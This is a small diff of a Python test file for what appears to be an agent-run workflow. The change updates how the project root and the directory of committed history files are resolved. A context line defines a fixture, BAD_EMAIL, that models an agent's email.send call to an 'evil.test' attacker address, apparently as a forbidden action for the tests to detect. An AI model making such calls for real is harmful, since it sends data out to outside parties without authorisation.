@@ -45,8 +45,8 @@ from tests.conftest import READ, REFUND_120, Runs, call
 from worker import build_worker
 from workflows.agent_run import AgentRun
 
-ROOT = Path(__file__).parent.parent
-COMMITTED = sorted((Path(__file__).parent / "histories").glob("*.json"))
+ROOT = Path(__file__).resolve().parents[2]
+COMMITTED = sorted((Path(__file__).resolve().parents[1] / "histories").glob("*.json"))
 
 BAD_EMAIL = call("email.send", to="x@evil.test", subject="s", body="b")
 
